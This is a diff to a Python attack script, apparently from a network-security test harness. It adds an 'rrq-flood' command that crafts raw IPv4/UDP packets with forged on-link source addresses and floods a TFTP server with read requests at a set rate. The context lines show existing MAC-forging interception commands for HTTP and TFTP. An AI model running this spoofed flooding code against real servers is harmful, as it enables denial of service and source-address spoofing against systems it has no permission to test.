@@ -9,6 +9,10 @@ sent to the victim's MAC first, reaches the attacker on TCP's (or TFTP's) retran
     attacker.py http IFACE OWN_MAC FORGED_MAC SERVER PORT METHOD PATH [-H 'Name: value']... [--body TEXT]
     attacker.py tftp IFACE OWN_MAC FORGED_MAC SERVER FILE
     attacker.py flip IFACE MAC OWN_IP    (the entry only: no request)
+    attacker.py rrq-flood SERVER FIRST_SOURCE SOURCES RATE SECONDS FILE...
+        TFTP read requests from forged on-link sources (FIRST_SOURCE and the SOURCES-1
+        addresses after it, in turn), RATE a second for SECONDS, cycling through the FILEs;
+        prints how many were sent.
 
 http prints the status code on the first line, then the body; tftp prints the file, or
 "ERROR <code> <message>", or "TIMEOUT". Run inside the attacker's network namespace, as root
@@ -160,12 +164,34 @@ def tftp(argv):
     sys.stdout.write(content.decode(errors="replace"))
 
 
+def rrq_flood(argv):
+    server, first, count, rate, seconds = argv[0], argv[1], int(argv[2]), float(argv[3]), float(argv[4])
+    files = argv[5:]
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    base = int(ipaddress.IPv4Address(first))
+    dst = socket.inet_aton(server)
+    sent, start = 0, time.monotonic()
+    while time.monotonic() - start < seconds:
+        src = socket.inet_aton(str(ipaddress.IPv4Address(base + sent % count)))
+        payload = b"\0\1" + files[sent % len(files)].encode() + b"\0octet\0"
+        udp = struct.pack("!HHHH", 1024 + sent % 50000, 69, 8 + len(payload), 0) + payload
+        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, src, dst)
+        raw.sendto(header + udp, (server, 0))
+        sent += 1
+        pause = start + sent / rate - time.monotonic()
+        if pause > 0:
+            time.sleep(pause)
+    sys.stdout.write(f"{sent}\n")
+
+
 def main():
     command, argv = sys.argv[1], sys.argv[2:]
     if command == "http":
         http(argv)
     elif command == "tftp":
         tftp(argv)
+    elif command == "rrq-flood":
+        rrq_flood(argv)
     elif command == "flip":
         iface, mac, ip = argv[:3]
         flip(iface, mac, mac, ip)
